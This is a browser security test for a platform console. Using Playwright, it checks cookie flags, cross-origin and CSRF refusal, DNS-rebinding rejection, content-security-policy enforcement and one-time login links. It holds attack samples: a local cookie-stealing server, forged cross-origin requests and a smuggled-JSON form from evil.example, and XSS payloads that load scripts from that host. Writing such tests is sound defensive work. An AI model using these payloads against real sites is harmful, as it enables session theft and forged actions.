// Copyright The Platform Authors.
// SPDX-License-Identifier: Apache-2.0

// Chromium signs in at BASE with TOKEN, and looks at a hostile page that another program of the same machine serves. LINK is
// a link of platform console.
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { createServer } from 'node:http';
import { started } from '../browser.mjs';

const require = createRequire(new URL('../../../pkg/console/web/package.json', import.meta.url));
const { chromium } = require('playwright-core');
const { BASE, TOKEN, LINK } = process.env;
const native = '/apis/core.platform.ai/v1alpha1/namespaces/team/tasks';
const task = (name) => JSON.stringify({ apiVersion: 'core.platform.ai/v1alpha1', kind: 'Task', metadata: { name }, spec: { type: 'container', command: ['true'] } });

// The hostile server keeps the cookies that it is sent. Its pages have no content of their own.
const stolen = [];
const thief = createServer((r, w) => {
  if (r.headers.cookie) stolen.push(r.headers.cookie);
  w.setHeader('content-type', 'text/html').end('<!doctype html><title>other</title>');
});
await new Promise((ready) => thief.listen(0, '127.0.0.1', ready));
const { port } = thief.address();
const browser = await started(chromium, ['--host-resolver-rules=MAP evil.example 127.0.0.1']);

// request runs in a page: one request as the page's own origin sends it, and what a script learns of the answer.
async function request({ url, ...init }) {
  try {
    const r = await fetch(url, { credentials: 'include', ...init });
    return { status: r.status, type: r.type, text: await r.text() };
  } catch (e) {
    return { error: `${e}` };
  }
}

async function signIn(context, at = BASE) {
  const page = await context.newPage();
  await page.goto(`${at}/console/login`);
  await page.fill('#token', TOKEN);
  await page.click('button[type=submit]');
  await page.waitForURL(`${at}/console/`);
  return page;
}

const key = (page) => page.evaluate(() => localStorage.getItem('platform.console.key'));

const parts = {
  async 'the page forgets the token and cannot read the cookie'(context) {
    const page = await signIn(context);
    const kept = await page.evaluate(() => JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }, location.href, document.documentElement.outerHTML]));
    assert.ok(!kept.includes(TOKEN), 'the token is in the page');
    const cookies = await context.cookies();
    assert.equal(cookies.length, 1);
    const { httpOnly, sameSite, path, expires, value } = cookies[0];
    assert.deepEqual({ httpOnly, sameSite, path, expires }, { httpOnly: true, sameSite: 'Strict', path: '/', expires: -1 });
    assert.ok(!kept.includes(value), 'a script can read the cookie');
    const own = await page.evaluate(request, { url: native, headers: { 'x-platform-console': await key(page) } });
    assert.equal(own.status, 200, own.text);
  },

  async 'a page of another port, name or site cannot use the session'(context) {
    const page = await signIn(context);
    const secret = await key(page);
    for (const origin of [`http://127.0.0.1:${port}`, `http://localhost:${port}`, `http://evil.example:${port}`]) {
      const other = await context.newPage();
      await other.goto(origin);
      for (const headers of [{}, { 'x-platform-console': 'x' }, { 'x-platform-console': secret }]) {
        for (const init of [{}, { method: 'POST', body: task('evil') }, { method: 'POST', body: task('evil'), mode: 'no-cors' }, { method: 'DELETE' }]) {
          for (const path of [native, '/api/v1/tasks?namespace=team', '/console/session']) {
            const got = await other.evaluate(request, { url: BASE + path, headers, ...init });
            assert.ok(got.error || got.type === 'opaque' || got.status >= 400, `${origin} ${path}: ${JSON.stringify(got)}`);
          }
        }
      }
      await other.evaluate(({ url, text }) => { // a form, whose body is JSON for a lenient server
        const form = Object.assign(document.createElement('form'), { method: 'POST', action: url, enctype: 'text/plain' });
        form.append(Object.assign(document.createElement('input'), { name: text.slice(0, -1) + ',"x":"', value: '"}' }));
        document.body.append(form);
        form.submit();
      }, { url: BASE + native, text: task('form') });
      await other.waitForURL(`${BASE}/**`);
      await other.close();
    }
    const list = await page.evaluate(request, { url: native, headers: { 'x-platform-console': secret } });
    assert.equal(list.status, 200, list.text);
    assert.deepEqual(JSON.parse(list.text).items, []);
  },

  async 'a cookie that another port was sent is of no use'(context) {
    await signIn(context);
    const other = await context.newPage();
    await other.goto(`http://127.0.0.1:${port}`);
    assert.ok(stolen.length > 0, 'browsers no longer send cookies to other ports: the key of a session is not needed any more');
    for (const cookie of stolen) {
      for (const headers of [{ cookie }, { cookie, 'x-platform-console': 'x' }]) {
        for (const path of [native, '/api/v1/tasks?namespace=team', '/console/session']) {
          const r = await fetch(BASE + path, { headers });
          assert.ok(r.status >= 400, `${path}: ${r.status}`);
        }
      }
    }
  },

  async 'a name that leads to this machine is refused'(context) {
    const page = await context.newPage();
    const answer = await page.goto(`http://evil.example:${new URL(BASE).port}/console/login`);
    assert.equal(answer.status(), 421);
    assert.equal((await page.goto(`http://evil.example:${new URL(LINK).port}/console/login`)).status(), 421);
  },

  async 'the console is in no frame, and runs nothing that is not its own'(context) {
    const page = await signIn(context);
    const directives = ['require-trusted-types-for', 'script-src', 'style-src', 'img-src', 'frame-src', 'connect-src'];
    const run = await page.evaluate(async (directives) => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const tries = [
        () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned=1">'),
        () => { document.body.innerHTML = '<p>text'; },
        () => eval('window.pwned=1'),
        () => new Function('window.pwned=1')(),
        () => import('https://evil.example/a.js').catch(() => {}),
        () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.pwned=1' })),
        () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/console/' })),
        () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/a.png' })),
        () => document.body.append(Object.assign(document.createElement('style'), { textContent: '*{display:none}' })),
      ];
      // What the driver runs may use eval; what it starts may not.
      await new Promise((done) => setTimeout(() => {
        for (const t of tries) try { t(); } catch { /* refused at once */ }
        done();
      }));
      await fetch('https://evil.example/').catch(() => {});
      const enforced = () => directives.every((d) => violations.some((v) => v.startsWith(d)));
      let n = 0;
      do await new Promise((done) => setTimeout(done, 100)); // a browser reports, and would run what it should not, when it has time
      while (!enforced() && ++n < 300);
      return { pwned: window.pwned, violations };
    }, directives);
    assert.equal(run.pwned, undefined);
    for (const d of directives) {
      assert.ok(run.violations.some((v) => v.startsWith(d)), `${d} is not enforced: ${run.violations}`);
    }
    const other = await context.newPage();
    await other.goto(`http://127.0.0.1:${port}`);
    await other.evaluate((src) => document.body.append(Object.assign(document.createElement('iframe'), { src })), `${BASE}/console/`);
    await other.waitForTimeout(300);
    const framed = other.frames().filter((f) => f.url().startsWith(BASE));
    assert.equal(framed.length, 0, 'the console is in a frame');
    const opened = await other.evaluate((url) => { window.w = window.open(url); return !!window.w; }, `${BASE}/console/`);
    await other.waitForFunction(() => !window.w || window.w.closed, null, { timeout: 120_000 });
    assert.ok(opened);
  },

  async 'a link opens the console once'(context) {
    const page = await context.newPage();
    await page.goto(LINK);
    await page.waitForURL((u) => u.pathname === '/console/');
    assert.ok(!page.url().includes('once'), page.url());
    const got = await page.evaluate(request, { url: native, headers: { 'x-platform-console': await key(page) } });
    assert.equal(got.status, 200, got.text);
    const second = await (await browser.newContext()).newPage();
    await second.goto(LINK);
    await second.getByText('used already').waitFor();
    assert.equal((await second.evaluate(request, { url: native })).status, 401);
    await page.evaluate((k) => fetch('/console/session', { method: 'DELETE', headers: { 'x-platform-console': k } }).then(() => {}), await key(page));
    assert.equal((await page.evaluate(request, { url: native, headers: { 'x-platform-console': await key(page) } })).status, 401);
    assert.equal((await context.cookies()).length, 0, 'the cookie is left');
  },
};

try {
  for (const [name, part] of Object.entries(parts)) {
    const context = await browser.newContext();
    await part(context);
    await context.close();
    console.log(`ok: ${name}`);
  }
} catch (e) {
  console.log(`FAILED: ${e.stack}`);
  process.exitCode = 1;
} finally {
  await browser.close();
  thief.close();
}
